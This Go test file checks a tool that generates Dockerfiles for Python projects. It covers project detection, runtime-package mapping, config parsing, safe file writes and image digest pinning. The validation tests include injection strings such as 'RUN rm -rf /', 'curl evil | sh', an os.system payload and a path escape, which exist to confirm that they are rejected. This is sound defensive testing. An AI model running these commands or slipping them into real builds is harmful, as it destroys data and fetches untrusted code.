package generate

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/pyimg/pyimg/baseimage"
	"github.com/pyimg/pyimg/project"
)

// writeProject creates a project directory holding files.
func writeProject(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const (
	mainScript   = "if __name__ == \"__main__\":\n    print(1)\n"
	djangoManage = "import os, sys\n\ndef main():\n    os.environ.setdefault(\"DJANGO_SETTINGS_MODULE\", \"shop.settings\")\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n\nif __name__ == \"__main__\":\n    main()\n"
	djangoWSGI   = "import os\nfrom django.core.wsgi import get_wsgi_application\nos.environ.setdefault(\"DJANGO_SETTINGS_MODULE\", \"shop.settings\")\napplication = get_wsgi_application()\n"
)

const poetryLock = "[[package]]\nname = \"psycopg2\"\nversion = \"2.9.10\"\ndescription = \"\"\noptional = false\npython-versions = \">=3.8\"\nfiles = [\n    {file = \"psycopg2-2.9.10.tar.gz\", hash = \"sha256:12ec0b40b0273f95296233e8750441339298e6a572f7039da5b260e3c8b60e11\"},\n]\n\n[metadata]\nlock-version = \"2.0\"\npython-versions = \"^3.12\"\ncontent-hash = \"0\"\n"

// detectAndMap detects the project in dir as Run does and maps it.
func detectAndMap(dir string, cfg Config, v Variant, b Bases) (Spec, []string, error) {
	p, err := project.Detect(dir)
	if err != nil {
		return Spec{}, nil, fmt.Errorf("%w: %v", ErrProject, err)
	}
	return FromProject(p, cfg, v, b)
}

func TestFromProject(t *testing.T) {
	tests := []struct {
		name         string
		files        map[string]string
		variant      Variant
		install      Install
		hashes       bool
		installProj  bool
		command      []string
		env          []string
		port         int
		build        []string
		runtime      []string
		noteContains string
		wantErr      error
		errContains  string
	}{
		{
			name:    "uv with console script",
			files:   map[string]string{"pyproject.toml": "[project]\nname = \"svc\"\ndependencies = [\"fastapi>=0.110\"]\n[project.scripts]\nsvc = \"svc.cli:main\"\n[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n", "uv.lock": "version = 1\n"},
			install: InstallUV, installProj: true, command: []string{"svc"},
		},
		{
			name:    "requirements with hashes and django",
			files:   map[string]string{"requirements.txt": "django==5.1.3 \\\n    --hash=sha256:abc\ngunicorn==23.0.0 --hash=sha256:def\n", "manage.py": djangoManage, "shop/__init__.py": "", "shop/settings.py": "", "shop/wsgi.py": djangoWSGI},
			install: InstallRequirements, hashes: true,
			command: []string{"gunicorn", "--bind", "0.0.0.0:8000", "shop.wsgi:application"},
			env:     []string{"DJANGO_SETTINGS_MODULE=shop.settings"}, port: 8000,
		},
		{
			name:    "poetry with configured command and packages",
			files:   map[string]string{"pyproject.toml": "[tool.poetry]\nname = \"p\"\n[tool.poetry.dependencies]\npython = \"^3.12\"\npsycopg2 = \"^2.9\"\n[tool.pyimg.generate]\ncommand = [\"python\", \"-m\", \"p\"]\nport = 9000\nbuild-packages = [\"build-essential\", \"libpq-dev\"]\n", "poetry.lock": poetryLock},
			install: InstallPoetry, command: []string{"python", "-m", "p"}, port: 9000,
			build: []string{"build-essential", "libpq-dev"}, runtime: []string{"libpq5"},
		},
		{
			name:    "sdist needs suggested",
			files:   map[string]string{"requirements.txt": "mysqlclient==2.2.4\n", "app.py": mainScript},
			install: InstallRequirements, command: []string{"python", "app.py"},
			noteContains: "mysqlclient builds from source against build-essential, default-libmysqlclient-dev, pkg-config",
		},
		{
			name:    "pyproject without lock",
			files:   map[string]string{"pyproject.toml": "[project]\nname = \"x\"\ndependencies = [\"flask\"]\n[build-system]\nrequires = [\"setuptools\"]\n", "x/__main__.py": ""},
			install: InstallPyproject, installProj: true, command: []string{"python", "-m", "x"},
		},
		{
			name: "src layout is installed",
			files: map[string]string{
				"pyproject.toml":      "[project]\nname = \"api\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n",
				"uv.lock":             "version = 1\n",
				"src/api/__init__.py": "",
				"src/api/main.py":     "from fastapi import FastAPI\napp = FastAPI()\n",
			},
			install: InstallUV, installProj: true, command: []string{"uvicorn", "api.main:app", "--host", "0.0.0.0", "--port", "8000"}, port: 8000,
		},
		{
			name:    "stdlib only",
			files:   map[string]string{"main.py": mainScript},
			install: InstallNone, command: []string{"python", "main.py"},
		},
		{
			name:    "runtime packages given win over derived ones",
			files:   map[string]string{"app.py": mainScript, ".pyimg.toml": "[generate]\nbuild-packages = [\"libxml2-dev\"]\nruntime-packages = []\n"},
			install: InstallNone, command: []string{"python", "app.py"}, build: []string{"libxml2-dev"}, runtime: []string{},
		},
		{
			name:    "no entry point",
			files:   map[string]string{"requirements.txt": "flask\n"},
			wantErr: ErrNoEntryPoint,
		},
		{
			name:    "two console scripts",
			files:   map[string]string{"pyproject.toml": "[project]\nname = \"x\"\n[project.scripts]\na = \"x:a\"\nb = \"x:b\"\n[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"},
			install: InstallNone, installProj: true, command: []string{"a"},
			noteContains: "of console scripts a, b",
		},
		{
			name:    "alpine with build packages",
			files:   map[string]string{"app.py": mainScript, ".pyimg.toml": "[generate]\nbuild-packages = [\"build-base\"]\n"},
			variant: VariantAlpine,
			wantErr: ErrNotFeasible,
		},
		{
			name:        "malformed pyproject",
			files:       map[string]string{"pyproject.toml": "[project\n", "app.py": mainScript},
			wantErr:     ErrProject,
			errContains: "pyproject.toml",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := writeProject(t, tt.files)
			v := tt.variant
			if v == "" {
				v = VariantSlim
			}
			b, err := ChooseBases(baseimage.Embedded(), baseimage.RecommendInput{Now: today}, v)
			if err != nil {
				t.Fatal(err)
			}
			cfg, err := LoadConfig(dir)
			if err != nil && tt.wantErr == nil {
				t.Fatalf("LoadConfig() error = %v", err)
			}
			s, notes, err := detectAndMap(dir, cfg, v, b)
			if tt.wantErr != nil {
				if !errors.Is(err, tt.wantErr) || !strings.Contains(err.Error(), tt.errContains) {
					t.Fatalf("FromProject() error = %v, want %v containing %q", err, tt.wantErr, tt.errContains)
				}
				return
			}
			if err != nil {
				t.Fatalf("FromProject() error = %v", err)
			}
			if s.Install != tt.install || s.RequireHashes != tt.hashes || s.InstallProject != tt.installProj {
				t.Errorf("install = %s hashes=%v project=%v, want %s %v %v", s.Install, s.RequireHashes, s.InstallProject, tt.install, tt.hashes, tt.installProj)
			}
			if !slices.Equal(s.Command, tt.command) {
				t.Errorf("Command = %q, want %q", s.Command, tt.command)
			}
			if !slices.Equal(s.Env, tt.env) {
				t.Errorf("Env = %q, want %q", s.Env, tt.env)
			}
			if s.Port != tt.port {
				t.Errorf("Port = %d, want %d", s.Port, tt.port)
			}
			if !slices.Equal(s.BuildPackages, tt.build) || (tt.runtime != nil && !slices.Equal(s.RuntimePackages, tt.runtime)) {
				t.Errorf("packages = %q / %q, want %q / %q", s.BuildPackages, s.RuntimePackages, tt.build, tt.runtime)
			}
			if s.UID != DefaultUID {
				t.Errorf("UID = %d, want %d", s.UID, DefaultUID)
			}
			if tt.noteContains != "" && !slices.ContainsFunc(notes, func(n string) bool { return strings.Contains(n, tt.noteContains) }) {
				t.Errorf("notes = %q, want one containing %q", notes, tt.noteContains)
			}
		})
	}
}

func TestRuntimeFor(t *testing.T) {
	tests := []struct {
		family, codename string
		build            []string
		runtime, unknown []string
	}{
		{FamilyDebian, "bookworm", []string{"build-essential", "libpq-dev", "libssl-dev", "libffi-dev"}, []string{"libpq5", "libssl3", "libffi8"}, nil},
		{FamilyDebian, "trixie", []string{"libssl-dev", "libjpeg-dev", "zlib1g-dev", "default-libmysqlclient-dev", "libxml2-dev"}, []string{"libssl3t64", "libjpeg62-turbo", "zlib1g", "libmariadb3", "libxml2"}, nil},
		{FamilyDebian, "trixie", []string{"libfoo-dev"}, nil, []string{"libfoo-dev"}},
		{FamilyAlpine, "", []string{"build-base", "postgresql-dev", "openssl-dev"}, []string{"libpq", "libssl3", "libcrypto3"}, nil},
	}
	for _, tt := range tests {
		rt, unk := RuntimeFor(tt.family, tt.codename, tt.build)
		if !slices.Equal(rt, tt.runtime) || !slices.Equal(unk, tt.unknown) {
			t.Errorf("RuntimeFor(%s, %s, %q) = %q, %q; want %q, %q", tt.family, tt.codename, tt.build, rt, unk, tt.runtime, tt.unknown)
		}
	}
}

func TestValidateRejects(t *testing.T) {
	ok := baseSpec(VariantSlim, InstallRequirements)
	if err := ok.Validate(); err != nil {
		t.Fatalf("Validate(valid spec) = %v", err)
	}
	for name, mutate := range map[string]func(*Spec){
		"newline in command":   func(s *Spec) { s.Command = []string{"python\nRUN rm -rf /"} },
		"package with space":   func(s *Spec) { s.BuildPackages = []string{"gcc; curl evil | sh"} },
		"root uid":             func(s *Spec) { s.UID = 0 },
		"image with newline":   func(s *Spec) { s.RuntimeImage = "python\nRUN x" },
		"env with quote":       func(s *Spec) { s.Env = []string{`A="b"`} },
		"health path quote":    func(s *Spec) { s.HealthPath = "/'); import os; os.system('x" },
		"requirements escapes": func(s *Spec) { s.Requirements = "../secrets.txt" },
		"no command":           func(s *Spec) { s.Command = nil },
		"bad series":           func(s *Spec) { s.Python = "3" },
		"uv without image":     func(s *Spec) { s.Install, s.UVImage = InstallUV, "" },
	} {
		s := ok
		mutate(&s)
		if err := s.Validate(); !errors.Is(err, ErrInvalidSpec) {
			t.Errorf("%s: Validate() = %v, want ErrInvalidSpec", name, err)
		}
		if _, err := Render(s); err == nil {
			t.Errorf("%s: Render() succeeded", name)
		}
	}
}

func TestParseConfigErrors(t *testing.T) {
	tests := []struct {
		name, data, want string
	}{
		{"syntax error has a line", "[tool.pyimg.generate]\nport = \n", "pyproject.toml:2:"},
		{"unknown key", "[tool.pyimg.generate]\nbuild-pkgs = [\"gcc\"]\n", "unknown key build-pkgs"},
		{"wrong type", "[tool.pyimg.generate]\nport = \"8000\"\n", "port"},
		{"bad port", "[tool.pyimg.generate]\nport = 70000\n", "port = 70000"},
		{"bad package", "[tool.pyimg.generate]\nbuild-packages = [\"gcc && curl x\"]\n", "not a package name"},
		{"not a table", "[tool.pyimg]\ngenerate = 1\n", "not a table"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := ParseConfig("pyproject.toml", []byte(tt.data), "tool", "pyimg", "generate")
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("ParseConfig() error = %v, want it to contain %q", err, tt.want)
			}
		})
	}
	cfg, found, err := ParseConfig(".pyimg.toml", []byte("[generate]\nport = 8080\nenv = {A = \"1\"}\n"), "generate")
	if err != nil || !found || cfg.Port != 8080 || cfg.Env["A"] != "1" || cfg.Path != ".pyimg.toml" {
		t.Errorf("ParseConfig(.pyimg.toml) = %+v, %v, %v", cfg, found, err)
	}
	if _, found, err := ParseConfig("pyproject.toml", []byte("[project]\nname = \"x\"\n"), "tool", "pyimg", "generate"); found || err != nil {
		t.Errorf("ParseConfig(no table) found=%v err=%v, want false, nil", found, err)
	}
}

func TestWrite(t *testing.T) {
	dir := t.TempDir()
	f := Files{Dockerfile: []byte("FROM scratch\n"), Dockerignore: []byte(".git\n")}
	if _, err := Write(dir, f, false); err != nil {
		t.Fatalf("Write() = %v", err)
	}
	f2 := Files{Dockerfile: []byte("FROM other\n"), Dockerignore: []byte(".env\n")}
	if _, err := Write(dir, f2, false); !errors.Is(err, ErrExists) {
		t.Fatalf("Write() over existing files = %v, want ErrExists", err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, DockerfileName)); string(b) != "FROM scratch\n" {
		t.Errorf("refused Write changed the Dockerfile to %q", b)
	}
	// Only the .dockerignore exists: still refused, nothing written.
	dir2 := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir2, DockerignoreName), []byte("keep\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Write(dir2, f, false); !errors.Is(err, ErrExists) {
		t.Fatalf("Write() with .dockerignore present = %v, want ErrExists", err)
	}
	if _, err := os.Stat(filepath.Join(dir2, DockerfileName)); err == nil {
		t.Error("refused Write created a Dockerfile")
	}
	written, err := Write(dir, f2, true)
	if err != nil || len(written) != 2 {
		t.Fatalf("Write(force) = %v, %v", written, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, DockerignoreName)); string(b) != ".env\n" {
		t.Errorf(".dockerignore = %q after forced write", b)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 2 {
		t.Errorf("directory holds %d entries after writes, want 2 (temporary files left?)", len(entries))
	}
}

func TestRun(t *testing.T) {
	dir := writeProject(t, map[string]string{
		"pyproject.toml": "[project]\nname = \"svc\"\nrequires-python = \">=3.12,<3.14\"\n[tool.pyimg.generate]\ncommand = [\"python\", \"-m\", \"svc\"]\nport = 8080\n",
		"uv.lock":        "version = 1\n",
	})
	ctx := context.Background()
	res, err := Run(ctx, dir, VariantSlim, WithNow(today))
	if err != nil {
		t.Fatalf("Run(offline) = %v", err)
	}
	if res.Spec.Python != "3.13" || res.Spec.Pinned || !strings.Contains(string(res.Files.Dockerfile), "# pyimg: global ignore=PY104") {
		t.Errorf("Run(offline): python %s pinned %v; want 3.13, unpinned with the PY104 note", res.Spec.Python, res.Spec.Pinned)
	}
	if len(res.Warnings) == 0 {
		t.Error("Run(offline) gave no warning about unpinned digests")
	}
	var asked []string
	res, err = Run(ctx, dir, VariantSlim, WithNow(today), WithResolver(func(_ context.Context, repo, tag string) (string, error) {
		asked = append(asked, repo+":"+tag)
		return fakeDigest, nil
	}))
	if err != nil {
		t.Fatalf("Run(pinned) = %v", err)
	}
	df := string(res.Files.Dockerfile)
	if !res.Spec.Pinned || strings.Contains(df, "PY104") || strings.Count(df, "@"+fakeDigest) != 3 || len(asked) != 3 {
		t.Errorf("Run(pinned): pinned %v, asked %q, Dockerfile:\n%s", res.Spec.Pinned, asked, df)
	}
	// A registry failure leaves the file unpinned, with a warning.
	res, err = Run(ctx, dir, VariantSlim, WithNow(today), WithResolver(func(context.Context, string, string) (string, error) {
		return "", errors.New("registry unreachable")
	}))
	if err != nil || res.Spec.Pinned || !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "registry unreachable") }) {
		t.Errorf("Run(resolver fails) = %v, pinned %v, warnings %q", err, res != nil && res.Spec.Pinned, res.Warnings)
	}
	// Distroless ships Python 3.13, which requires-python allows.
	if res, err := Run(ctx, dir, VariantDistroless, WithNow(today)); err != nil || !strings.Contains(res.Spec.RuntimeImage, "python3-debian13:nonroot") || res.Spec.UID != DistrolessUID {
		t.Errorf("Run(distroless) = %+v, %v", res, err)
	}
	// Alpine needs the musl check for a project with dependencies.
	if _, err := Run(ctx, dir, VariantAlpine, WithNow(today)); !errors.Is(err, ErrNotFeasible) {
		t.Errorf("Run(alpine, no check) = %v, want ErrNotFeasible", err)
	}
	_, err = Run(ctx, dir, VariantAlpine, WithNow(today), WithMuslCheck(func(context.Context, *project.Project, string) (bool, []string, error) {
		return false, []string{"torch 2.5.1: no musllinux wheel (torch-2.5.1-cp313-cp313-manylinux_2_28_x86_64.whl)"}, nil
	}))
	if !errors.Is(err, ErrNotFeasible) || !strings.Contains(err.Error(), "torch 2.5.1: no musllinux wheel") {
		t.Errorf("Run(alpine, infeasible) = %v, want ErrNotFeasible with the evidence", err)
	}
	res, err = Run(ctx, dir, VariantAlpine, WithNow(today), WithMuslCheck(func(context.Context, *project.Project, string) (bool, []string, error) { return true, nil, nil }))
	if err != nil || !strings.Contains(res.Spec.BuildImage, "alpine") {
		t.Errorf("Run(alpine, feasible) = %v, %v", res, err)
	}
	// A libs analysis adds runtime packages once and warns about the
	// sonames nothing provides.
	res, err = Run(ctx, dir, VariantSlim, WithNow(today), WithRuntimeLibs("oci:build", []string{"libpq5", "libpq5"}, []string{"libfoo.so.1"}))
	if err != nil || !slices.Equal(res.Spec.RuntimePackages, []string{"libpq5"}) ||
		!slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "oci:build lacks libfoo.so.1") }) ||
		!strings.Contains(string(res.Files.Dockerfile), "apt-get install -y --no-install-recommends libpq5") {
		t.Errorf("Run(WithRuntimeLibs) = %v, %v", res, err)
	}
	if _, err := Run(ctx, dir, VariantSlim, WithNow(today), WithRuntimeLibs("x", []string{"bad name; rm"}, nil)); !errors.Is(err, ErrInvalidSpec) {
		t.Errorf("Run(WithRuntimeLibs(bad name)) = %v, want ErrInvalidSpec", err)
	}
	// requires-python that distroless cannot meet.
	dir2 := writeProject(t, map[string]string{"pyproject.toml": "[project]\nname = \"old\"\nrequires-python = \"<3.12\"\n", "app.py": ""})
	if _, err := Run(ctx, dir2, VariantDistroless, WithNow(today)); !errors.Is(err, baseimage.ErrNoCandidate) {
		t.Errorf("Run(distroless, <3.12) = %v, want ErrNoCandidate", err)
	}
}
